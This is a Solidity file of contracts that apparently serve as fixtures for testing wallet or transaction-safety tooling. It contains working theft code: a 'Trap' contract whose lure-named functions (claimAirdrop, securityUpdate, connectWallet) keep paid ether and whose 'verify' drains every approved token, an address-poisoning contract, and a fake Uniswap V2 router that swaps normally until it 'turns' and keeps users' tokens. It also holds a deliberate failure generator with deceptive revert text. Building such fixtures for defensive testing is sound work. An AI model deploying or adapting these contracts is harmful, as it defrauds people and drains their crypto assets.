// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface ITaken {
    function transferFrom(address from, address to, uint256 value) external;
    function balanceOf(address account) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
}

/// Pleasant names for keeping what is paid.
contract Trap {
    function claimRewards() external payable {}

    function claimAirdrop(address) external payable {}

    function securityUpdate() external payable {}

    function connectWallet() external payable {}

    /// Takes all that was ever approved for this contract.
    function verify(address[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 most = ITaken(tokens[i]).balanceOf(msg.sender);
            uint256 allowed = ITaken(tokens[i]).allowance(msg.sender, address(this));
            if (allowed < most) most = allowed;
            if (most > 0) ITaken(tokens[i]).transferFrom(msg.sender, address(this), most);
        }
    }

    /// Fails in each of the ways in which contracts fail.
    function fail(uint256 how) external pure {
        if (how == 0) revert();
        if (how == 1) revert("No, because of reasons");
        if (how == 2) assert(false);
        if (how == 3) revert Refused(7);
        if (how == 4) {
            uint256[] memory none = new uint256[](0);
            none[how] = 1;
        }
        if (how == 5) revert(unicode"\u202e<b>txet</b>\n\nlines");
        if (how == 6) {
            assembly {
                revert(0, 500000)
            }
        }
        if (how == 7) while (true) {}
        if (how == 8) {
            assembly {
                invalid()
            }
        }
    }

    error Refused(uint256 why);
}

/// Gives a hundred of everything to anyone who asks: the accounts begin without.
contract Faucet {
    struct Ration {
        address token;
        uint256 amount;
    }

    address private immutable items;
    Ration[] private rations;

    constructor(Ration[] memory rations_, address items_) {
        for (uint256 i = 0; i < rations_.length; i++) rations.push(rations_[i]);
        items = items_;
    }

    function take() external {
        for (uint256 i = 0; i < rations.length; i++) {
            (bool done, ) = rations[i].token.call(
                abi.encodeWithSignature("transfer(address,uint256)", msg.sender, rations[i].amount)
            );
            require(done);
        }
        for (uint256 id = 1; id < 3; id++) {
            (bool done, ) = items.call(
                abi.encodeWithSignature(
                    "safeTransferFrom(address,address,uint256,uint256,bytes)", address(this), msg.sender, id, 10, ""
                )
            );
            require(done);
        }
    }
}

/// Puts a transfer of nothing from a stranger's account into its history.
contract Poisoner {
    function poison(address token, address victim, address lookAlike) external {
        ITaken(token).transferFrom(victim, lookAlike, 0);
    }
}

interface IRouter {
    function swapExactETHForTokensSupportingFeeOnTransferTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable;
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external;
    function swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external;
}

interface ISold {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// Looks like a router of Uniswap V2 and swaps on a real one, until it turns: then it keeps what it gets.
contract TurningMarket {
    address private immutable router;
    bool public hasTurned;

    constructor(address router_) {
        router = router_;
    }

    function turn() external {
        hasTurned = true;
    }

    function swapExactETHForTokensSupportingFeeOnTransferTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable {
        if (hasTurned) return;
        IRouter(router).swapExactETHForTokensSupportingFeeOnTransferTokens{value: msg.value}(least, path, to, deadline);
    }

    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external {
        take(path[0], amount);
        if (!hasTurned) IRouter(router).swapExactTokensForETHSupportingFeeOnTransferTokens(amount, least, path, to, deadline);
    }

    function swapExactTokensForTokensSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 deadline) external {
        take(path[0], amount);
        if (!hasTurned) IRouter(router).swapExactTokensForTokensSupportingFeeOnTransferTokens(amount, least, path, to, deadline);
    }

    function take(address token, uint256 amount) private {
        ISold(token).transferFrom(msg.sender, address(this), amount);
        ISold(token).approve(router, amount);
    }
}
